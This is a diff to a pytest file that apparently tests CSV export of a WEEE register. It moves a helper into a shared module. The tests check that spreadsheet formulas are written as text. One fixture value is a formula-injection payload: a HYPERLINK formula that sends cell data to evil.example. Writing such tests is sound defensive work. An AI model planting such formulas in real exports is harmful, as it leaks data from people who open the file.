@@ -9,7 +9,7 @@ import pytest
 
 from reuse_tracker import csv_export
 from reuse_tracker.workshop import weee
-from tests.workshop.helpers import act
+from tests.workshop.helpers import act, weee_register
 
 HOSTILE = {
     "brand": '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
@@ -39,14 +39,6 @@ def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell, written):
     assert next(csv.reader(io.StringIO(csv_export.line([cell])), delimiter=";")) == [written]
 
 
-def _register(client, period) -> list[list[str]]:
-    answer = client.get("/workshop/weee.csv", query_string=period)
-    assert answer.status_code == 200 and answer.mimetype == "text/csv"
-    text = answer.data.decode("utf-8")
-    assert text.startswith(csv_export.BOM)
-    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
-
-
 def test_the_weee_register_writes_formulas_as_text(client, login, make_device):
     login("coordinator")
     device = make_device("received", brand=HOSTILE["brand"], model=HOSTILE["model"])
@@ -60,7 +52,7 @@ def test_the_weee_register_writes_formulas_as_text(client, login, make_device):
             "reference": HOSTILE["reference"],
         },
     )
-    _header, row, _total = _register(client, {"from": "2021-01-01", "to": "2021-12-31"})
+    _header, row, _total = weee_register(client, **{"from": "2021-01-01", "to": "2021-12-31"})
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
     assert f"'{HOSTILE['reference']}" in row
     assert f"'{HOSTILE['brand']} {HOSTILE['model']}" in row
@@ -83,7 +75,7 @@ def test_a_wide_period_is_streamed_to_its_last_row(client, login, make_device, m
         )
     for _ in range(3):  # no pick-up date: dated by the event (today)
         act(make_device("received"), "recycle", {"weight_kg": "1.0", "channel": "ecosystem"})
-    header, *rows, total = _register(client, {"from": "2000-01-01", "to": "2030-12-31"})
+    header, *rows, total = weee_register(client, **{"from": "2000-01-01", "to": "2030-12-31"})
     assert header[0] == "Date of removal"
     assert sorted(row[0] for row in rows)[: len(dates)] == sorted(dates)
     assert len(rows) == len(dates) + 3
